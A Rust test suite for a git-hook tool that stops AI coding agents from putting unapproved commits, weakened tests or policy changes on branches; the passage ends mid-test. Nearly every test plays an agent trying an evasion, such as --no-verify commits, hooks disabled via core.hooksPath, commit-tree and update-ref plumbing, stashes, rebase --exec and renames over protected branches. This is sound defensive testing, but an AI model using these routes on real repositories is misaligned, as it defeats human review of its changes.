//! The branch rule end to end: a branch only gains commits that something vouches for —
//! its old tip, another local branch (for a feature branch), a branch of its own environment
//! or a commit judged for it (for a protected branch) — whatever git command moves it. Each
//! test plays an agent (`CLAUDECODE=1`) with ordinary git commands against the hooks that
//! `astrix install` writes, and checks where the branches point afterwards, not only what
//! was printed.

use std::process::Output;

use crate::gate::{AGENT, Env, Gate, HUMAN, approve_at, git_at, stderr, stdout};

const STOPPED: &str = "astrix: the reference-transaction hook stopped the update of branch";

fn run(gate: &Gate, env: Env, args: &[&str]) -> Output {
    git_at(&gate.root, env, args)
}

#[track_caller]
fn ok(output: &Output) {
    assert!(
        output.status.success(),
        "{}{}",
        stdout(output),
        stderr(output)
    );
}

/// An update the backstop refused: git failed, and the report names `what`.
#[track_caller]
fn refused(output: &Output, what: &str) {
    let text = stderr(output);
    assert!(!output.status.success(), "{text}");
    assert!(text.contains(STOPPED), "{text}");
    assert!(text.contains(what), "{text}");
}

/// The commit a branch points at, `None` when it does not exist.
fn tip(gate: &Gate, branch: &str) -> Option<String> {
    let output = run(
        gate,
        HUMAN,
        &[
            "rev-parse",
            "--verify",
            "-q",
            &format!("refs/heads/{branch}"),
        ],
    );
    output
        .status
        .success()
        .then(|| stdout(&output).trim().to_owned())
}

/// Puts the work tree back after a refused command: whatever git left in progress is
/// aborted, and `branch` is checked out clean at `at`.
fn restore(gate: &Gate, branch: &str, at: &str) {
    for abort in [
        &["rebase", "--abort"][..],
        &["merge", "--abort"],
        &["cherry-pick", "--abort"],
    ] {
        let _ = run(gate, HUMAN, abort);
    }
    ok(&run(gate, HUMAN, &["switch", "-q", "-f", branch]));
    ok(&run(gate, HUMAN, &["reset", "-q", "--hard", at]));
}

/// A test weakened by an agent: held by `agents-touching-tests` on any branch.
fn weaken_tests(gate: &Gate) {
    gate.write("tests/t.rs", "#[test]\nfn one() {}\n");
    ok(&run(gate, HUMAN, &["add", "tests/t.rs"]));
}

/// Every way of moving a feature branch onto `sneaky` (held content on no branch): each is
/// refused, and no branch points at it afterwards.
fn assert_lands_nowhere(gate: &Gate, sneaky: &str) {
    let feature = tip(gate, "feature").unwrap();
    // With `feature` not checked out.
    ok(&run(gate, AGENT, &["switch", "-q", "--detach", &feature]));
    for args in [
        &["switch", "-c", "x", sneaky][..],
        &["branch", "x", sneaky],
        &["branch", "-f", "feature", sneaky],
        &["update-ref", "refs/heads/feature", sneaky],
        &["update-ref", "refs/heads/x", sneaky],
        &["push", ".", &format!("{sneaky}:refs/heads/x")],
        &["fetch", ".", &format!("{sneaky}:refs/heads/x")],
    ] {
        let output = run(gate, AGENT, args);
        refused(&output, "[agents-touching-tests]");
        assert_eq!(
            tip(gate, "feature").as_deref(),
            Some(feature.as_str()),
            "{args:?}"
        );
        assert_eq!(tip(gate, "x"), None, "{args:?}");
        restore(gate, "feature", &feature);
        ok(&run(gate, AGENT, &["switch", "-q", "--detach", &feature]));
    }
    // With `feature` checked out.
    restore(gate, "feature", &feature);
    let merge = gate
        .git(&["rev-list", "--parents", "-n1", sneaky])
        .split(' ')
        .count()
        > 2;
    let pick: &[&str] = if merge {
        &["cherry-pick", "-m", "1", sneaky]
    } else {
        &["cherry-pick", sneaky]
    };
    for args in [
        &["merge", "--ff-only", sneaky][..],
        &["merge", "--no-ff", "--no-edit", sneaky],
        &["reset", "--hard", sneaky],
        &["reset", "--soft", sneaky],
        &["rebase", sneaky],
        pick,
    ] {
        let output = run(gate, AGENT, args);
        refused(&output, "[agents-touching-tests]");
        assert_eq!(
            tip(gate, "feature").as_deref(),
            Some(feature.as_str()),
            "{args:?}"
        );
        restore(gate, "feature", &feature);
    }
}

/// A gate on a feature branch with one commit of the agent's on it.
fn feature_gate() -> Gate {
    let gate = Gate::new();
    ok(&run(&gate, AGENT, &["switch", "-q", "-c", "feature"]));
    gate.write("src/feature.rs", "pub fn feature() {}\n");
    ok(&run(&gate, AGENT, &["add", "-A"]));
    ok(&gate.commit(AGENT, &["-m", "feature work"]));
    gate
}

#[test]
fn commits_made_on_a_detached_head_reach_no_branch_unjudged() {
    let gate = feature_gate();
    ok(&run(&gate, AGENT, &["switch", "-q", "--detach"]));
    weaken_tests(&gate);
    // No branch moves, so nothing stops the commit itself.
    ok(&gate.commit(AGENT, &["--no-verify", "-m", "weaken"]));
    let sneaky = gate.head();
    let output = run(&gate, AGENT, &["switch", "-c", "x"]);
    refused(&output, "[agents-touching-tests]");
    let text = stderr(&output);
    assert!(
        text.contains("\"weaken\", on no branch or other reference"),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "run `astrix approve --branch x --tip {}`",
            &sneaky[..12]
        )),
        "{text}"
    );
    assert_lands_nowhere(&gate, &sneaky);
}

#[test]
fn commits_made_by_commit_tree_reach_no_branch_unjudged() {
    let gate = feature_gate();
    weaken_tests(&gate);
    let tree = gate.git(&["write-tree"]).trim().to_owned();
    let sneaky = gate
        .git(&["commit-tree", "-p", "HEAD", "-m", "weaken", &tree])
        .trim()
        .to_owned();
    ok(&run(&gate, HUMAN, &["reset", "-q", "--hard"]));
    assert_lands_nowhere(&gate, &sneaky);
}

/// A new commit that no `git commit` is making (`commit-tree` then `update-ref` or `reset`)
/// is approved as the branch's move: the report names `astrix approve --branch … --tip …`,
/// never "the same `git commit` again", and following it lets the move through.
#[test]
fn a_commit_made_without_git_commit_is_approved_as_a_move() {
    let gate = feature_gate();
    weaken_tests(&gate);
    let tree = gate.git(&["write-tree"]).trim().to_owned();
    let sneaky = gate
        .git(&["commit-tree", "-p", "HEAD", "-m", "weaken", &tree])
        .trim()
        .to_owned();
    let feature = tip(&gate, "feature").unwrap();
    for args in [
        &["update-ref", "refs/heads/feature", &sneaky][..],
        &["reset", "-q", "--hard", &sneaky],
        &["merge", "-q", "--ff-only", &sneaky],
    ] {
        ok(&run(&gate, HUMAN, &["reset", "-q", "--hard"]));
        let output = run(&gate, AGENT, args);
        refused(&output, "[agents-touching-tests]");
        let text = stderr(&output);
        assert!(
            text.contains(&format!(
                "run `astrix approve --branch feature --tip {}` in this repository; then run the same git command again",
                &sneaky[..12]
            )),
            "{args:?}: {text}"
        );
        assert!(!text.contains("`git commit` again"), "{args:?}: {text}");
        assert!(!text.contains("still staged"), "{args:?}: {text}");
        assert_eq!(tip(&gate, "feature").as_deref(), Some(feature.as_str()));
    }
    let approval = approve_at(
        &gate.root,
        &["--branch", "feature", "--tip", &sneaky],
        "y\n",
    );
    assert_eq!(approval.status.code(), Some(0), "{}", stdout(&approval));
    ok(&run(
        &gate,
        AGENT,
        &["update-ref", "refs/heads/feature", &sneaky],
    ));
    assert_eq!(tip(&gate, "feature").as_deref(), Some(sneaky.as_str()));
}

/// `git commit --no-verify` of held content is stopped by the backstop with the advice for
/// a commit: the plain `astrix approve` of what is staged, then the same `git commit`.
#[test]
fn a_commit_stopped_by_the_backstop_is_approved_as_staged() {
    let gate = feature_gate();
    weaken_tests(&gate);
    let output = gate.commit(AGENT, &["--no-verify", "-m", "weaken"]);
    refused(&output, "[agents-touching-tests]");
    let text = stderr(&output);
    assert!(text.contains("run the same `git commit` again"), "{text}");
    assert!(text.contains("the change is still staged"), "{text}");
    assert!(!text.contains("--tip"), "{text}");
}

#[test]
fn a_stash_reaches_no_branch_unjudged() {
    let gate = feature_gate();
    weaken_tests(&gate);
    ok(&run(&gate, AGENT, &["stash", "-q"]));
    let feature = tip(&gate, "feature").unwrap();
    let output = run(&gate, AGENT, &["merge", "--ff-only", "stash"]);
    refused(&output, "[agents-touching-tests]");
    assert!(
        stderr(&output).contains("on `refs/stash`"),
        "{}",
        stderr(&output)
    );
    assert_eq!(tip(&gate, "feature"), Some(feature.clone()));
    restore(&gate, "feature", &feature);
    let stash = gate.rev("stash");
    assert_lands_nowhere(&gate, &stash);
    // Popping it is the ordinary way: the change is staged again, and judged as a commit.
    ok(&run(&gate, AGENT, &["stash", "pop", "-q", "--index"]));
    let output = gate.commit(AGENT, &["-m", "weaken"]);
    assert!(!output.status.success());
    assert!(stderr(&output).contains("[agents-touching-tests]"));
}

#[test]
fn commits_made_inside_a_rebase_are_judged_when_the_branch_takes_them() {
    let gate = feature_gate();
    let feature = tip(&gate, "feature").unwrap();
    // An `edit` stop: the agent amends the stopped commit without pre-commit.
    let output = git_at(
        &gate.root,
        &[
            ("CLAUDECODE", "1"),
            ("GIT_SEQUENCE_EDITOR", "sed -i 1s/^pick/edit/"),
        ],
        &["rebase", "-i", "main"],
    );
    ok(&output);
    weaken_tests(&gate);
    ok(&gate.commit(AGENT, &["--amend", "--no-edit", "--no-verify"]));
    let output = run(&gate, AGENT, &["rebase", "--continue"]);
    refused(&output, "[agents-touching-tests]");
    assert!(
        stderr(&output).contains("then run `git rebase --continue` again"),
        "{}",
        stderr(&output)
    );
    assert_eq!(tip(&gate, "feature"), Some(feature.clone()));
    restore(&gate, "feature", &feature);

    // A commit added by `--exec`.
    let output = run(
        &gate,
        AGENT,
        &[
            "rebase",
            "--exec",
            "printf '#[test]\\nfn two() {}\\n' >> tests/t.rs && git commit -qam more --no-verify",
            "main",
        ],
    );
    refused(&output, "[agents-touching-tests]");
    assert_eq!(tip(&gate, "feature"), Some(feature.clone()));
    restore(&gate, "feature", &feature);

    // A rebase that only moves the branch's own commits costs nothing.
    ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
    gate.write("README.md", "main moves on\n");
    ok(&run(&gate, HUMAN, &["add", "README.md"]));
    ok(&gate.commit(HUMAN, &["-m", "main moves on"]));
    ok(&run(&gate, AGENT, &["switch", "-q", "feature"]));
    ok(&run(&gate, AGENT, &["rebase", "-q", "main"]));
    assert_eq!(gate.rev("feature^"), gate.rev("main"));
}

#[test]
fn commits_that_pass_one_by_one_are_judged_as_one_change_too() {
    let gate = feature_gate();
    let feature = tip(&gate, "feature").unwrap();
    ok(&run(&gate, AGENT, &["switch", "-q", "--detach"]));
    // Two commits of 15 lines: each within `lines_changed <= 20`, not both.
    for part in ["a", "b"] {
        let text = (0..15).fold(String::new(), |mut text, n| {
            text.push_str(&format!("pub const {part}{n}: u8 = {n};\n"));
            text
        });
        gate.write(&format!("src/{part}.rs"), text);
        ok(&run(&gate, AGENT, &["add", "-A"]));
        ok(&gate.commit(AGENT, &["-m", part]));
    }
    let sneaky = gate.head();
    ok(&run(&gate, AGENT, &["switch", "-q", "feature"]));
    let output = run(&gate, AGENT, &["merge", "--ff-only", &sneaky]);
    refused(&output, "(the commits it would gain, as one change)");
    assert!(
        stderr(&output).contains("lines_changed is 30"),
        "{}",
        stderr(&output)
    );
    assert_eq!(tip(&gate, "feature"), Some(feature.clone()));
    restore(&gate, "feature", &feature);
    // A human approves what the move brings; the same merge then goes through.
    let approval = approve_at(
        &gate.root,
        &["--branch", "feature", "--tip", &sneaky],
        "y\n",
    );
    let shown = stdout(&approval);
    assert_eq!(approval.status.code(), Some(0), "{shown}");
    assert!(shown.contains("the 2 commits as one change"), "{shown}");
    ok(&run(&gate, AGENT, &["merge", "-q", "--ff-only", &sneaky]));
    assert_eq!(tip(&gate, "feature"), Some(sneaky));
}

#[test]
fn an_agent_cannot_put_its_commits_on_a_production_branch() {
    let gate = feature_gate();
    let main = tip(&gate, "main").unwrap();
    let feature = tip(&gate, "feature").unwrap();
    for args in [
        &["branch", "-f", "main", "feature"][..],
        &["update-ref", "refs/heads/main", "feature"],
        &["branch", "release/1.0", "feature"],
        &["switch", "-c", "release/1.0"],
        &["checkout", "-b", "release/1.0", "feature"],
        &["push", ".", "feature:main"],
        &["fetch", ".", "feature:release/1.0"],
    ] {
        let output = run(&gate, AGENT, args);
        refused(&output, "[agents-off-production]");
        assert_eq!(
            tip(&gate, "main").as_deref(),
            Some(main.as_str()),
            "{args:?}"
        );
        assert_eq!(tip(&gate, "release/1.0"), None, "{args:?}");
        restore(&gate, "feature", &feature);
    }
    // From main itself.
    ok(&run(&gate, AGENT, &["switch", "-q", "main"]));
    for args in [
        &["merge", "--ff-only", "feature"][..],
        &["merge", "--no-ff", "--no-edit", "feature"],
        &["reset", "--hard", "feature"],
        &["rebase", "feature"],
        &["cherry-pick", "feature"],
        &["pull", "--ff-only", ".", "feature"],
    ] {
        let output = run(&gate, AGENT, args);
        refused(&output, "[agents-off-production]");
        assert_eq!(
            tip(&gate, "main").as_deref(),
            Some(main.as_str()),
            "{args:?}"
        );
        restore(&gate, "main", &main);
    }
    // Deleting main to make it again, or renaming over it, starts with a deletion.
    ok(&run(&gate, AGENT, &["switch", "-q", "feature"]));
    for args in [
        &["branch", "-D", "main"][..],
        &["branch", "-M", "other", "main"],
        &["update-ref", "-d", "refs/heads/main"],
    ] {
        if args[1] == "-M" {
            ok(&run(&gate, AGENT, &["branch", "other"]));
        }
        let output = run(&gate, AGENT, args);
        refused(&output, "(an agent deletes a protected branch)");
        assert_eq!(
            tip(&gate, "main").as_deref(),
            Some(main.as_str()),
            "{args:?}"
        );
    }
    // A person may.
    ok(&run(&gate, HUMAN, &["branch", "-D", "main"]));
    // And a branch made again is judged as a new one: it gains all it has.
    let output = run(&gate, AGENT, &["branch", "main", "feature"]);
    refused(&output, "[agents-off-production]");
    assert_eq!(tip(&gate, "main"), None);
}

#[test]
fn a_protected_branch_that_moved_unseen_blocks_the_next_update() {
    let gate = feature_gate();
    let main = tip(&gate, "main").unwrap();
    // `git branch -c` and `-m` show the hook nothing, or a deletion, never what they write.
    for (args, branch) in [
        (&["branch", "-c", "feature", "release/2"][..], "release/2"),
        (&["branch", "-m", "feature", "release/3"], "release/3"),
    ] {
        ok(&run(&gate, AGENT, args));
        // The next update of any branch, by anyone, is blocked and says what to do.
        let output = run(&gate, AGENT, &["switch", "-q", "-c", "next", "main"]);
        refused(
            &output,
            "(a protected branch moved where the hook does not see)",
        );
        let text = stderr(&output);
        assert!(
            text.contains(&format!("`{branch}` targets `production`")),
            "{text}"
        );
        assert!(
            text.contains(&format!("`git branch -f {branch} {}`", &main[..12])),
            "{text}"
        );
        assert_eq!(tip(&gate, "next"), None);
        let output = run(&gate, HUMAN, &["branch", "unrelated"]);
        refused(
            &output,
            "(a protected branch moved where the hook does not see)",
        );
        // Pointing it back at a judged tip, or deleting it, lets work go on.
        if branch == "release/2" {
            ok(&run(&gate, HUMAN, &["branch", "-f", branch, &main]));
        } else {
            ok(&run(&gate, HUMAN, &["branch", "-m", branch, "feature"]));
        }
        ok(&run(&gate, HUMAN, &["branch", "unrelated"]));
        ok(&run(&gate, HUMAN, &["branch", "-D", "unrelated"]));
    }
    // The same for a commit made with the hooks switched off.
    ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
    gate.write("README.md", "unseen\n");
    ok(&run(
        &gate,
        AGENT,
        &["-c", "core.hooksPath=/dev/null", "commit", "-qam", "unseen"],
    ));
    let output = run(&gate, AGENT, &["branch", "more"]);
    refused(&output, "`main` targets `production` and points at");
}

#[test]
fn a_symbolic_branch_may_not_alias_another_environment() {
    let gate = feature_gate();
    let output = run(
        &gate,
        AGENT,
        &["symbolic-ref", "refs/heads/release/x", "refs/heads/feature"],
    );
    refused(&output, "(a symbolic reference)");
    let output = run(
        &gate,
        AGENT,
        &["symbolic-ref", "refs/heads/main", "refs/heads/feature"],
    );
    refused(&output, "(a symbolic reference)");
    // An alias of a feature branch, or of main under another name, is fine.
    ok(&run(
        &gate,
        AGENT,
        &["symbolic-ref", "refs/heads/trunk", "refs/heads/main"],
    ));
}

#[test]
fn an_orphan_branch_takes_the_local_default_branch_policy_not_origin_head() {
    let gate = feature_gate();
    // A laxer policy on a remote-tracking ref, with origin/HEAD pointed at it.
    ok(&run(&gate, HUMAN, &["switch", "-q", "-c", "lax", "main"]));
    gate.write("Astrixfile.ax", "version = 1\ndefault = \"allow\"\n");
    gate.setup_commit("lax");
    let lax = gate.head();
    ok(&run(&gate, HUMAN, &["switch", "-q", "feature"]));
    ok(&run(&gate, HUMAN, &["branch", "-D", "lax"]));
    ok(&run(
        &gate,
        AGENT,
        &["update-ref", "refs/remotes/origin/lax", &lax],
    ));
    ok(&run(
        &gate,
        AGENT,
        &[
            "symbolic-ref",
            "refs/remotes/origin/HEAD",
            "refs/remotes/origin/lax",
        ],
    ));
    ok(&run(&gate, AGENT, &["switch", "-q", "--orphan", "orphan"]));
    weaken_tests(&gate);
    // The commit gate takes the default branch's policy; the backstop the one at the last
    // tip it let a protected branch take.
    for (args, policy) in [
        (&["-m", "orphan"][..], "of the default branch `main`"),
        (
            &["--no-verify", "-m", "orphan"],
            "at `main`'s last judged tip",
        ),
    ] {
        let output = gate.commit(AGENT, args);
        let text = stderr(&output);
        assert!(!output.status.success(), "{text}");
        assert!(text.contains("[agents-touching-tests]"), "{text}");
        assert!(text.contains(policy), "{text}");
    }
    let output = gate.commit(AGENT, &["--no-verify", "-m", "orphan"]);
    assert!(
        stderr(&output).contains("\"orphan\", the first commit of `orphan`"),
        "{}",
        stderr(&output)
    );
    assert_eq!(tip(&gate, "orphan"), None);
}

/// What people do every day passes without a prompt, and so does an agent's work on
/// feature branches.
#[test]
fn everyday_work_passes() {
    for actor in [HUMAN, AGENT] {
        let gate = Gate::new();
        let git = |args: &[&str]| ok(&run(&gate, actor, args));
        let commit = |path: &str, text: &str, message: &str| {
            gate.write(path, text);
            ok(&run(&gate, actor, &["add", "-A"]));
            ok(&gate.commit(actor, &["-m", message]));
        };
        git(&["switch", "-q", "-c", "topic"]);
        commit("src/a.rs", "pub fn a() {}\n", "a");
        commit("src/b.rs", "pub fn b() {}\n", "b");
        // main moves on (a person's commit).
        ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
        gate.write("README.md", "news\n");
        ok(&run(&gate, HUMAN, &["add", "-A"]));
        ok(&gate.commit(HUMAN, &["-m", "news"]));
        git(&["switch", "-q", "topic"]);
        git(&["rebase", "-q", "main"]);
        git(&["rebase", "-q", "--exec", "true", "main"]);
        // Interactive: reorder the two commits.
        ok(&git_at(
            &gate.root,
            &[
                actor,
                &[("GIT_SEQUENCE_EDITOR", "sed -i -e '1{h;d}' -e '2G'")],
            ]
            .concat(),
            &["rebase", "-q", "-i", "main"],
        ));
        // Autosquash a fixup.
        commit("src/a.rs", "pub fn a() -> u8 { 1 }\n", "fixup! a");
        ok(&git_at(
            &gate.root,
            &[actor, &[("GIT_SEQUENCE_EDITOR", "true")]].concat(),
            &["rebase", "-q", "-i", "--autosquash", "main"],
        ));
        assert_eq!(
            gate.git(&["log", "--format=%s", "main..topic"])
                .lines()
                .count(),
            2
        );
        // Another topic, cherry-picked and merged.
        git(&["switch", "-q", "-c", "other", "main"]);
        commit("src/c.rs", "pub fn c() {}\n", "c");
        commit("src/d.rs", "pub fn d() {}\n", "d");
        git(&["switch", "-q", "topic"]);
        git(&["cherry-pick", "other~1"]);
        git(&["merge", "-q", "--no-edit", "other"]);
        git(&["merge", "-q", "--no-edit", "main"]);
        // Stash and pop.
        gate.write("src/a.rs", "pub fn a() -> u8 { 2 }\n");
        git(&["stash", "-q"]);
        git(&["stash", "pop", "-q"]);
        git(&["commit", "-qam", "a again"]);
        // Branches made, renamed, copied and deleted.
        git(&["branch", "spare"]);
        git(&["branch", "-m", "spare", "spare2"]);
        git(&["branch", "-c", "spare2", "spare3"]);
        git(&["branch", "-D", "spare2", "spare3"]);
        git(&["switch", "-q", "-c", "from-main", "main"]);
        git(&["switch", "-q", "topic"]);
        // A linked worktree.
        let tree = gate.temp().join("wt");
        git(&[
            "worktree",
            "add",
            "-q",
            "-b",
            "wt-topic",
            tree.to_str().unwrap(),
            "topic",
        ]);
        std::fs::write(tree.join("src/wt.rs"), "pub fn wt() {}\n").unwrap();
        ok(&git_at(&tree, actor, &["add", "-A"]));
        ok(&git_at(&tree, actor, &["commit", "-qm", "in a worktree"]));
        git(&["merge", "-q", "--ff-only", "wt-topic"]);
        git(&["worktree", "remove", tree.to_str().unwrap()]);
        let log = gate.log();
        assert!(
            log.iter().all(|entry| entry["decision"] == "allow"),
            "{log:#?}"
        );
    }
}

/// A person's `git pull` of a production branch brings what others made, and works; an
/// agent's is judged as the agent's change to production.
#[test]
fn pulling_a_production_branch() {
    let origin = Gate::new();
    let clone_dir = origin.temp().join("clone");
    ok(&git_at(
        origin.temp(),
        HUMAN,
        &[
            "clone",
            "-q",
            origin.root.to_str().unwrap(),
            clone_dir.to_str().unwrap(),
        ],
    ));
    let install = crate::gate::astrix_at(&clone_dir, HUMAN)
        .arg("install")
        .output()
        .unwrap();
    ok(&install);
    // Others move main on, with a commit the policy holds for anyone (an agent's tests).
    origin.write("tests/t.rs", "#[test]\nfn upstream() {}\n");
    ok(&git_at(&origin.root, HUMAN, &["add", "-A"]));
    ok(&origin.commit(HUMAN, &["-m", "upstream tests"]));
    let upstream = origin.head();
    let output = git_at(&clone_dir, AGENT, &["pull", "-q", "--ff-only"]);
    let text = stderr(&output);
    assert!(!output.status.success(), "{text}");
    assert!(text.contains("[agents-off-production]"), "{text}");
    ok(&git_at(&clone_dir, HUMAN, &["reset", "-q", "--hard"]));
    ok(&git_at(&clone_dir, HUMAN, &["pull", "-q", "--ff-only"]));
    let head = git_at(&clone_dir, HUMAN, &["rev-parse", "HEAD"]);
    assert_eq!(stdout(&head).trim(), upstream);
}

/// In a reftable repository git shows the hook nothing at all for `git branch -m`, `-M` or
/// `-c`: renaming over a production branch is seen at the next update, which it blocks.
#[test]
fn reftable_renames_are_caught_at_the_next_update() {
    let gate = Gate::with_init(&["--ref-format=reftable"], Some(crate::gate::POLICY));
    ok(&run(&gate, AGENT, &["switch", "-q", "-c", "feature"]));
    gate.write("src/feature.rs", "pub fn feature() {}\n");
    ok(&run(&gate, AGENT, &["add", "-A"]));
    ok(&gate.commit(AGENT, &["-m", "feature work"]));
    let main = tip(&gate, "main").unwrap();
    ok(&run(&gate, AGENT, &["switch", "-q", "--detach"]));
    ok(&run(&gate, AGENT, &["branch", "-M", "feature", "main"]));
    let output = run(&gate, AGENT, &["switch", "-q", "-c", "next"]);
    refused(&output, "`main` targets `production` and points at");
    // Detached commits are judged there as anywhere.
    weaken_tests(&gate);
    ok(&gate.commit(AGENT, &["--no-verify", "-m", "weaken"]));
    ok(&run(&gate, HUMAN, &["branch", "-f", "main", &main]));
    let output = run(&gate, AGENT, &["switch", "-c", "x"]);
    refused(&output, "[agents-touching-tests]");
    assert_eq!(tip(&gate, "x"), None);
}

/// A commit on `parent` whose only change is an `Astrixfile.ax` of `text`, made with git's
/// plumbing, so that no hook judges it.
fn policy_commit(gate: &Gate, parent: &str, text: &str) -> String {
    let file = gate.root.join(".git/attack-policy");
    std::fs::write(&file, text).unwrap();
    let blob = stdout(&run(
        gate,
        AGENT,
        &["hash-object", "-w", file.to_str().unwrap()],
    ));
    let index = gate.root.join(".git/attack-index");
    let with_index: &[(&str, &str)] = &[
        ("CLAUDECODE", "1"),
        ("GIT_INDEX_FILE", index.to_str().unwrap()),
    ];
    ok(&git_at(&gate.root, with_index, &["read-tree", parent]));
    ok(&git_at(
        &gate.root,
        with_index,
        &[
            "update-index",
            "--cacheinfo",
            &format!("100644,{},Astrixfile.ax", blob.trim()),
        ],
    ));
    let tree = stdout(&git_at(&gate.root, with_index, &["write-tree"]));
    std::fs::remove_file(&index).unwrap();
    let commit = run(
        gate,
        AGENT,
        &[
            "commit-tree",
            tree.trim(),
            "-p",
            parent,
            "-m",
            "policy tweak",
        ],
    );
    ok(&commit);
    stdout(&commit).trim().to_owned()
}

const LAX: &str = "version = 1\ndefault = \"allow\"\n";
const ALL_PRODUCTION: &str = "version = 1\ndefault = \"allow\"\n[[environment]]\nname = \"production\"\nbranches = [\"*\"]\n";

/// Nothing that can move unjudged chooses which branches are protected: not the default
/// branch the command line names, not a symbolic branch, not the policy at a protected
/// branch's own tip when that tip was never judged.
#[test]
fn no_unjudged_reference_chooses_the_policy() {
    let gate = feature_gate();
    let main = tip(&gate, "main").unwrap();
    let lax = policy_commit(&gate, &main, LAX);
    let all = policy_commit(&gate, &main, ALL_PRODUCTION);
    ok(&run(&gate, AGENT, &["tag", "t1", &lax]));
    ok(&run(&gate, AGENT, &["tag", "t2", &all]));
    // A symbolic branch may not name a tag for an agent, nor be the default branch.
    let output = run(
        &gate,
        AGENT,
        &["symbolic-ref", "refs/heads/y", "refs/tags/t1"],
    );
    refused(&output, "which is not a local branch");
    // One a person made is no branch to the backstop.
    ok(&run(
        &gate,
        HUMAN,
        &["symbolic-ref", "refs/heads/y", "refs/tags/t1"],
    ));
    for args in [
        &[
            "-c",
            "init.defaultBranch=y",
            "symbolic-ref",
            "refs/heads/main",
            "refs/tags/t2",
        ][..],
        &[
            "-c",
            "init.defaultBranch=y",
            "update-ref",
            "--no-deref",
            "refs/heads/main",
            &all,
        ],
        &[
            "-c",
            "init.defaultBranch=y",
            "update-ref",
            "refs/heads/main",
            &all,
        ],
        &[
            "-c",
            "init.defaultBranch=y",
            "branch",
            "release/9",
            "feature",
        ],
    ] {
        let output = run(&gate, AGENT, args);
        assert!(!output.status.success(), "{args:?}: {}", stderr(&output));
        assert!(stderr(&output).contains(STOPPED), "{}", stderr(&output));
        assert_eq!(
            tip(&gate, "main").as_deref(),
            Some(main.as_str()),
            "{args:?}"
        );
        assert_eq!(tip(&gate, "release/9"), None, "{args:?}");
    }
    // Even as the configured default branch, it does not make `release/9` a feature branch.
    ok(&run(&gate, HUMAN, &["config", "init.defaultBranch", "y"]));
    let output = run(&gate, AGENT, &["branch", "release/9", "feature"]);
    refused(&output, "[agents-off-production]");
    // Made an ordinary branch, it gains what it names: judged.
    ok(&run(
        &gate,
        HUMAN,
        &["config", "--unset", "init.defaultBranch"],
    ));
    ok(&run(
        &gate,
        HUMAN,
        &["symbolic-ref", "refs/heads/held", "refs/tags/t1"],
    ));
    let output = run(
        &gate,
        AGENT,
        &["update-ref", "--no-deref", "refs/heads/held", &lax],
    );
    refused(&output, "[policy-change]");
    // Still the symbolic reference a person made, not a branch.
    ok(&run(
        &gate,
        HUMAN,
        &["symbolic-ref", "-q", "refs/heads/held"],
    ));
}

/// A move made with the hooks off is not laundered by a later transaction that moves the
/// same branches again: an old tip that astrix never let its branch take vouches for
/// nothing, and a branch that vouches for another must be vouched for itself.
#[test]
fn a_move_made_with_the_hooks_off_stays_unjudged() {
    let gate = feature_gate();
    let main = tip(&gate, "main").unwrap();
    let all = policy_commit(&gate, &main, ALL_PRODUCTION);
    ok(&run(&gate, HUMAN, &["switch", "-q", "--detach"]));
    let off = common_stdin(
        &gate,
        &["-c", "core.hooksPath=/nonexistent", "update-ref", "--stdin"],
        &format!("update refs/heads/main {all}\ncreate refs/heads/x {all}\n"),
    );
    ok(&off);
    let output = common_stdin(
        &gate,
        &["update-ref", "--stdin"],
        &format!("update refs/heads/main {all}\nupdate refs/heads/x {all}\n"),
    );
    refused(&output, "[agents-off-production]");
    // Only putting `main` back where astrix saw it lets work go on.
    let output = run(&gate, AGENT, &["branch", "next"]);
    refused(&output, "`main` targets `production` and points at");
    ok(&run(
        &gate,
        AGENT,
        &["update-ref", "refs/heads/main", &main],
    ));
    ok(&run(&gate, AGENT, &["branch", "next"]));
    // The same with a branch copied over `main` (`git branch -C` shows the hook nothing) and
    // another branch that the unjudged policy calls production.
    let two = policy_commit(
        &gate,
        &main,
        "version = 1\ndefault = \"allow\"\n[[environment]]\nname = \"production\"\nbranches = [\"main\", \"z\"]\n",
    );
    ok(&run(&gate, HUMAN, &["branch", "-f", "x", &two]));
    ok(&run(&gate, AGENT, &["branch", "-C", "x", "main"]));
    let output = common_stdin(
        &gate,
        &["update-ref", "--stdin"],
        &format!("update refs/heads/main {two}\ncreate refs/heads/z {two}\n"),
    );
    assert!(!output.status.success(), "{}", stderr(&output));
    assert_eq!(tip(&gate, "z"), None);
    let record = std::fs::read_to_string(gate.root.join(".git/astrix/branch-tips.jsonl")).unwrap();
    assert!(!record.contains(&all) && !record.contains(&two), "{record}");
}

/// `git args` in `gate` as the agent, with `input` on its standard input.
fn common_stdin(gate: &Gate, args: &[&str], input: &str) -> Output {
    let mut command = crate::common::isolated("git", &gate.root);
    command.env("CLAUDECODE", "1").args(args);
    crate::common::output_with_stdin(command, input.as_bytes())
}

/// Taking commits away from a protected branch is a change too: an agent's reset or a
/// rebase that drops a commit is judged as the agent's change there. A person's is not.
#[test]
fn an_agent_cannot_rewind_a_protected_branch() {
    let gate = feature_gate();
    ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
    for n in 1..=3 {
        gate.write(&format!("fix{n}.txt"), format!("fix {n}\n"));
        ok(&run(&gate, HUMAN, &["add", "-A"]));
        ok(&gate.commit(HUMAN, &["-m", &format!("fix {n}")]));
    }
    let main = tip(&gate, "main").unwrap();
    for args in [
        &["reset", "--hard", "main~2"][..],
        &["rebase", "--onto", "main~2", "main~1", "main"],
        &["update-ref", "refs/heads/main", "main~1"],
    ] {
        let output = run(&gate, AGENT, args);
        refused(&output, "[agents-off-production]");
        assert!(
            stderr(&output).contains("what the branch loses"),
            "{}",
            stderr(&output)
        );
        assert_eq!(
            tip(&gate, "main").as_deref(),
            Some(main.as_str()),
            "{args:?}"
        );
        restore(&gate, "main", &main);
    }
    ok(&run(&gate, HUMAN, &["reset", "-q", "--hard", "main~1"]));
    // An agent on a feature branch rewrites it as it likes.
    ok(&run(&gate, AGENT, &["switch", "-q", "feature"]));
    ok(&run(&gate, AGENT, &["reset", "-q", "--hard", "HEAD~1"]));
}

/// A symbolic branch that names a tag is no branch: it vouches for nothing, and made an
/// ordinary branch it is a new one, which gains everything it has.
#[test]
fn a_symbolic_branch_to_a_tag_launders_nothing() {
    let gate = feature_gate();
    ok(&run(&gate, AGENT, &["switch", "-q", "--detach"]));
    weaken_tests(&gate);
    ok(&gate.commit(AGENT, &["--no-verify", "-m", "weaken"]));
    let sneaky = gate.head();
